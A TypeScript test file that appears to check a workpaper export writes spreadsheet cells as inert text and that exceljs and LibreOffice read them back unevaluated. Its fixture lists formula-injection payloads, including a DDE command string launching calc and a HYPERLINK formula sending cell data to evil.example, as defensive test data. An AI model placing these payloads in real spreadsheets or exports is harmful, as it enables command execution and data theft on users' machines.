import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterEach, expect, it } from 'vitest';
import { WORKPAPER_SHEETS } from '../../../electron/core/evidence/evidence-workpapers';
import { closedEvidenceCampaign, mustDispatch, type EvidenceCampaign } from '../../support/evidence-campaign';
import { tempFolder } from '../../support/temp-folder';

let campaign: EvidenceCampaign | null = null;
afterEach(() => campaign?.core.close());

/** Every sheet of the workbook as CSV, through LibreOffice (all sheets: LibreOffice 7.2+ filter option -1). */
function libreOfficeSheets(xlsx: string, folder: string): Map<string, string[][]> {
  const out = join(folder, 'lo');
  mkdirSync(out);
  execFileSync(
    'libreoffice',
    [
      `-env:UserInstallation=file://${join(folder, 'lo-profile')}`,
      '--headless',
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
      '--outdir',
      out,
      xlsx,
    ],
    { stdio: 'pipe', timeout: 90_000 },
  );
  const sheets = new Map<string, string[][]>();
  for (const file of readdirSync(out)) {
    const sheet = /^workpapers-(.+)\.csv$/.exec(file)?.[1];
    if (!sheet) continue;
    const parsed = Papa.parse<string[]>(readFileSync(join(out, file), 'utf8'), { skipEmptyLines: true });
    sheets.set(sheet, parsed.data);
  }
  return sheets;
}

/** A cell as the sheet shows it: dates in the workbook's format, numbers as written. */
function shown(value: ExcelJS.CellValue): string {
  if (value === null || value === undefined) return '';
  if (value instanceof Date)
    return value
      .toISOString()
      .slice(0, 19)
      .replace('T', ' ')
      .replace(/ 00:00:00$/, '');
  return String(value);
}

it('writes workpapers that exceljs and LibreOffice read back with the same values, formula payloads inert', async () => {
  const folder = tempFolder('steward-workpapers-');
  mkdirSync(join(folder, 'vault'));
  campaign = await closedEvidenceCampaign({ folder: join(folder, 'vault'), injection: true });
  const xlsx = join(folder, 'workpapers.xlsx');
  const exported = await mustDispatch(campaign.core, 'evidence.export', {
    campaignId: campaign.campaignId,
    pdfPath: join(folder, 'pack.pdf'),
    xlsxPath: xlsx,
  });
  expect(exported.xlsxPath).toBe(xlsx);
  expect(readdirSync(folder).filter((name) => name.endsWith('.tmp'))).toEqual([]);

  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(xlsx);
  expect(workbook.worksheets.map((s) => s.name)).toEqual([...WORKPAPER_SHEETS]);
  for (const sheet of workbook.worksheets) {
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toMatch(/^A1:[A-Z]+1$/);
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
  }
  const decisions = workbook.getWorksheet('Decisions')!;
  const header = (decisions.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const column = (name: string) => header.indexOf(name) + 1;
  expect(decisions.rowCount).toBe(campaign.items.length + 1);
  expect(decisions.getRow(2).getCell(column('Decided at')).value).toBeInstanceOf(Date);
  expect(workbook.getWorksheet('Exceptions')!.rowCount).toBe(campaign.exceptions.length + 1);
  const population = workbook.getWorksheet('Population')!;
  const snapshots = await mustDispatch(campaign.core, 'snapshots.list', {});
  const hashes = new Set<string>();
  population.eachRow((row, n) => {
    if (n > 1) hashes.add(String(row.getCell(15).value));
  });
  for (const snapshot of snapshots) for (const file of snapshot.files) expect(hashes).toContain(file.sha256);

  // The payloads of the injection fixture and the justifications, as text in the cells.
  const texts = new Set<string>();
  decisions.eachRow((row) => row.eachCell((cell) => texts.add(String(cell.value))));
  for (const payload of [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1 (leading TAB before =)',
  ])
    expect(texts).toContain(payload);
  // XML turns a carriage return into a line feed on reading (XML 1.0, 2.11): the text keeps its line break.
  expect([...texts].filter((t) => /^[\r\n]=2\+5 \(leading CR\)$/.test(t))).toHaveLength(1);

  const sheets = libreOfficeSheets(xlsx, folder);
  expect([...sheets.keys()].sort()).toEqual([...WORKPAPER_SHEETS].sort());
  for (const sheet of workbook.worksheets) {
    const csv = sheets.get(sheet.name)!;
    expect(csv).toHaveLength(sheet.rowCount);
    sheet.eachRow((row, n) => {
      const expected = Array.from({ length: sheet.columnCount }, (_, i) => shown(row.getCell(i + 1).value));
      // LibreOffice drops a cell's leading line break (the CR payload); the rest is the same text.
      const visible = (cells: string[]) => cells.map((cell) => cell.replace(/^[\r\n]+/, ''));
      expect(visible(csv[n - 1]!.slice(0, expected.length))).toEqual(visible(expected));
    });
  }
  // LibreOffice evaluated none of them: each came back as its text, not as a result (1, "click", 2).
  const loTexts = new Set(sheets.get('Decisions')!.flat());
  for (const payload of ['-2+3', '@SUM(A1:A2)', "+cmd|' /C calc'!A0", '\t=1+1 (leading TAB before =)'])
    expect(loTexts).toContain(payload);
  expect([...loTexts].filter((t) => /^[\r\n]?=2\+5 \(leading CR\)$/.test(t))).toHaveLength(1);
  expect(loTexts).not.toContain('click');
}, 180_000);
